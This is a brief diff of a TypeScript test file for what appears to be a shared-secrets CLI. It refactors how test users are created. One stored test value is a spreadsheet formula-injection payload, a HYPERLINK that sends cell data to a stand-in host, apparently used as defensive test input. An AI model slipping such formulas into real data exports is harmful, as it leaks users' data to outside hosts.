@@ -17,8 +17,7 @@ let ann: User;
 beforeAll(async () => {
   team = await createTeam({ users: ["joe", "ann"], server: { serve: ["--log-format", "json"] } });
   server = team.server;
-  joe = team.user("joe");
-  ann = team.user("ann");
+  [joe, ann] = team.users("joe", "ann");
   await does(joe, ["-c", "web1", "+ann:read"], "s3cret-1\n");
   await does(joe, ["web1", "-ps", "ip"], "1.2.3.4");
   await does(joe, ["web1", "-ps", "note"], '=HYPERLINK("http://x/?"&A1)');
